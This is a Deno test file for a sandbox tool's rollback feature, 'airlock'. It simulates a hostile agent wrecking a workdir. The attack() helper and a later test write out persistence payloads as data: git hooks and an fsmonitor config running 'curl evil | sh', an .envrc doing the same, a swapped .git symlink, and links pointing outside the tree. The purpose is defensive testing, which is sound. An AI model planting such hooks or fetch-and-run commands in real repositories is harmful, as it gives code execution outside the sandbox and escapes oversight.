/**
 * The attacker's run, through the real CLI and the real sandbox: a confined script
 * wrecks the workdir and plants code that would run later. The guard must undo the
 * planted code when the run ends; `airlock rollback restore` must bring the tree back to
 * the baseline bit for bit, without writing through the links the script planted.
 */

import { deepEqual, equal, match, notEqual, ok } from "node:assert/strict";
import { cli, hashListing, rollbackDirs, snapshotIdOf } from "./_tree.ts";

const linuxOnly = { ignore: Deno.build.os !== "linux" };

/** Everything a hostile agent does to a workdir it may write. */
function attack(outside: string): string {
  return [
    "set -e",
    // code that runs later, outside any sandbox
    "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit",
    "chmod +x .git/hooks/pre-commit",
    "printf '[core]\\n\\tfsmonitor = \"sh -c evil\"\\n' >> .git/config",
    "printf 'curl evil | sh\\n' > .envrc",
    // damage
    "echo overwritten > README.md",
    "mv src/lib src/library",
    "chmod 000 docs/guide.md",
    "chmod 000 docs",
    `rm scripts/run.sh && ln -s ${outside}/target.txt scripts/run.sh`,
    `rm -rf src/main.ts && ln -s ${outside} src/main.ts`,
    "rm -rf empty empty-dir",
    "echo new > added.txt",
    "mkdir -p newdir/deep && echo x > newdir/deep/file",
    "rm main-link && echo 'not a link' > main-link",
    "echo ignored > debug.log",
  ].join("\n");
}

Deno.test(
  "airlock run --rollback: the guard undoes planted hooks and config, restore brings the tree back",
  linuxOnly,
  async () => {
    await using d = await rollbackDirs();
    const baseline = hashListing(d.work);
    const outsideBefore = hashListing(d.outside);

    const run = await cli(d, ["run", "--rollback", "--", "/bin/sh", "-c", attack(d.outside)]);
    equal(run.code, 0, run.stderr);
    const id = snapshotIdOf(run.stderr);
    match(run.stderr, /guard restored .*\.git\/config \(changed\)/);
    match(run.stderr, /\.git\/hooks\/pre-commit \(added\)/);
    match(run.stderr, /\.envrc \(added\)/);
    match(run.stderr, new RegExp(`airlock rollback restore ${id}`));

    // The guard ran without any restore: hook gone, config and .envrc as before.
    const hooks = [...Deno.readDirSync(`${d.work}/.git/hooks`)].map((e) => e.name);
    deepEqual(hooks, ["pre-commit.sample"]);
    equal(
      await Deno.readTextFile(`${d.work}/.git/config`),
      "[core]\n\trepositoryformatversion = 0\n",
    );
    ok(!(await exists(`${d.work}/.envrc`)));
    // … while the rest of the damage is still there.
    equal(await Deno.readTextFile(`${d.work}/README.md`), "overwritten\n");

    // The agent's versions are kept for inspection.
    const show = await cli(d, ["rollback", "show", id, "--guarded"]);
    equal(show.code, 0, show.stderr);
    match(show.stdout, /fsmonitor = "sh -c evil"/);
    match(show.stdout, /curl evil \| sh/);

    const dry = await cli(d, ["rollback", "restore", id, "--dry-run"]);
    equal(dry.code, 0, dry.stderr);
    match(dry.stdout, /remove added\.txt/);
    match(dry.stdout, /write {2}README\.md/);
    equal(
      await Deno.readTextFile(`${d.work}/README.md`),
      "overwritten\n",
      "dry run changed nothing",
    );

    const restore = await cli(d, ["rollback", "restore", id]);
    equal(restore.code, 0, restore.stderr);
    // The ignored file the agent wrote is not part of the snapshot and stays.
    deepEqual(hashListing(d.work, /^debug\.log$/), baseline);
    deepEqual(hashListing(d.outside), outsideBefore, "nothing outside the workdir changed");

    const verify = await cli(d, ["rollback", "verify", id]);
    equal(verify.code, 0, verify.stderr);
    match(verify.stdout, /intact: root [0-9a-f]{64} \(audit log: matches\)/);
  },
);

Deno.test(
  "airlock run --rollback --accept-guarded keeps the agent's hook, and says so",
  linuxOnly,
  async () => {
    await using d = await rollbackDirs();
    const run = await cli(d, [
      "run",
      "--rollback",
      "--accept-guarded",
      "--",
      "/bin/sh",
      "-c",
      "echo hook > .git/hooks/post-checkout",
    ]);
    equal(run.code, 0, run.stderr);
    match(run.stderr, /guard kept the agent's \.git\/hooks\/post-checkout \(added\)/);
    equal(await Deno.readTextFile(`${d.work}/.git/hooks/post-checkout`), "hook\n");
  },
);

Deno.test(
  "airlock run --rollback passes the exit status through and records the root in the audit log",
  linuxOnly,
  async () => {
    await using d = await rollbackDirs();
    const run = await cli(d, ["run", "--rollback", "--", "/bin/sh", "-c", "echo x > a; exit 7"]);
    equal(run.code, 7, run.stderr);
    const id = snapshotIdOf(run.stderr);
    const sessions = [...Deno.readDirSync(`${d.state}/airlock/sessions`)].map((e) => e.name);
    equal(sessions.length, 1);
    const records =
      (await Deno.readTextFile(`${d.state}/airlock/sessions/${sessions[0]}/audit.jsonl`))
        .trim().split("\n").map((l) => JSON.parse(l));
    const snap = records.find((r) => r.event === "snapshot");
    equal(snap.snapshot, id);
    match(snap.root, /^[0-9a-f]{64}$/);
    const after = records.find((r) => r.event === "after");
    notEqual(after.root, snap.root);
    match(after.detail, /exit 7/);
  },
);

Deno.test(
  "airlock run --no-rollback takes no snapshot even with a profile that turns rollback on",
  linuxOnly,
  async () => {
    await using d = await rollbackDirs();
    await Deno.writeTextFile(
      `${d.root}/p.json`,
      JSON.stringify({ extends: "default", rollback: true }),
    );
    const on = await cli(d, ["run", "-p", `${d.root}/p.json`, "--", "/bin/true"]);
    equal(on.code, 0, on.stderr);
    snapshotIdOf(on.stderr);
    const off = await cli(d, ["run", "-p", `${d.root}/p.json`, "--no-rollback", "--", "/bin/true"]);
    equal(off.code, 0, off.stderr);
    ok(!off.stderr.includes("rollback snapshot"), off.stderr);
    const list = await cli(d, ["rollback", "list", "--json"]);
    equal(JSON.parse(list.stdout).length, 1);
  },
);

Deno.test(
  "airlock run --rollback over the profile's budget fails before the command starts and names what to exclude",
  linuxOnly,
  async () => {
    await using d = await rollbackDirs();
    for (let i = 0; i < 30; i++) await Deno.writeTextFile(`${d.work}/docs/page${i}.md`, `${i}\n`);
    await Deno.writeTextFile(
      `${d.root}/p.json`,
      JSON.stringify({ extends: "default", rollback: { enabled: true, max_files: 20 } }),
    );
    const run = await cli(d, ["run", "-p", `${d.root}/p.json`, "--", "/bin/sh", "-c", "touch ran"]);
    equal(run.code, 125, run.stderr);
    match(run.stderr, /Cannot snapshot .*: it holds \d+ files, over rollback\.max_files 20/);
    match(run.stderr, /rollback\.exclude: "docs\/" \(3\d files/);
    ok(!(await exists(`${d.work}/ran`)), "the command did not run");
  },
);

Deno.test(
  "airlock run --rollback refuses a state directory inside a grant",
  linuxOnly,
  async () => {
    await using d = await rollbackDirs();
    const args = ["--allow", d.state, "--", "/bin/sh", "-c", "touch ran"];
    // The state directory is a protected path: granting it is refused outright …
    const refused = await cli(d, ["run", "--rollback", ...args]);
    equal(refused.code, 125, refused.stderr);
    match(refused.stderr, /protected path .*airlock/);
    // … and with the protection bypassed, rollback still refuses to keep its store there.
    const bypass = ["--bypass-protection", `${d.state}/airlock`];
    const run = await cli(d, ["run", "--rollback", ...bypass, ...args]);
    equal(run.code, 125, run.stderr);
    match(run.stderr, /Cannot keep a rollback snapshot: .* lies within the grant/);
    ok(!(await exists(`${d.work}/ran`)));
  },
);

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch {
    return false;
  }
}

Deno.test(
  "the guard puts .git back when the command swaps it for a link to a directory with hooks",
  linuxOnly,
  async () => {
    await using d = await rollbackDirs();
    const tmp = `${d.root}/tmp`;
    await Deno.mkdir(tmp);
    const run = await cli(d, [
      "run",
      "--rollback",
      "--allow",
      tmp,
      "--",
      "/bin/sh",
      "-c",
      [
        "set -e",
        `cp -r .git ${tmp}/evil-git`,
        `printf '#!/bin/sh\\necho pwned\\n' > ${tmp}/evil-git/hooks/pre-commit`,
        `rm -rf .git && ln -s ${tmp}/evil-git .git`,
      ].join("\n"),
    ]);
    equal(run.code, 0, run.stderr);
    match(run.stderr, /guard restored \.git \(changed\)/);
    ok((await Deno.lstat(`${d.work}/.git`)).isDirectory, ".git is a directory again");
    deepEqual([...Deno.readDirSync(`${d.work}/.git/hooks`)].map((e) => e.name), [
      "pre-commit.sample",
    ]);
  },
);

Deno.test(
  "a command that grows the tree past the budget: the after tree is hashed, not stored",
  linuxOnly,
  async () => {
    await using d = await rollbackDirs();
    await Deno.writeTextFile(
      `${d.root}/p.json`,
      JSON.stringify({ extends: "default", rollback: { enabled: true, max_bytes: 64 * 1024 } }),
    );
    const run = await cli(d, [
      "run",
      "-p",
      `${d.root}/p.json`,
      "--",
      "/bin/sh",
      "-c",
      "head -c 1048576 /dev/zero > big.bin && echo hook > .git/hooks/pre-push",
    ]);
    equal(run.code, 0, run.stderr);
    match(run.stderr, /big\.bin/);
    match(run.stderr, /guard restored \.git\/hooks\/pre-push \(added\)/);
    const id = snapshotIdOf(run.stderr);
    const packs = [...Deno.readDirSync(`${d.state}/airlock/rollback`)][0]!.name;
    let stored = 0;
    for (const e of Deno.readDirSync(`${d.state}/airlock/rollback/${packs}/packs`)) {
      stored += (await Deno.stat(`${d.state}/airlock/rollback/${packs}/packs/${e.name}`)).size;
    }
    ok(stored < 512 * 1024, `the store holds ${stored} bytes, not the 1 MiB file`);
    equal((await cli(d, ["rollback", "verify", id])).code, 0);
    const show = await cli(d, ["rollback", "show", id, "--diff"]);
    match(show.stdout, /big\.bin: content not stored/);
    // The next snapshot reads big.bin again instead of trusting a hash without an object.
    await Deno.remove(`${d.work}/big.bin`);
    const again = await cli(d, ["run", "-p", `${d.root}/p.json`, "--", "/bin/true"]);
    equal(again.code, 0, again.stderr);
  },
);
